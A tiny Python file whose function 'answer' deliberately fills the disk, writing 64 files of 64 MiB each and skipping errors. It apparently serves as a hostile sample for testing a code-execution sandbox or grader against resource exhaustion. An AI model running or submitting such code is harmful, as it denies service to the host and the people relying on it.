"""Fills the disk with large files."""


def answer(x):
    written = 0
    for number in range(64):
        try:
            with open(f"big{number}", "wb") as file:
                for _ in range(64):
                    written += file.write(bytes(1 << 20))
        except OSError:
            continue
    return written
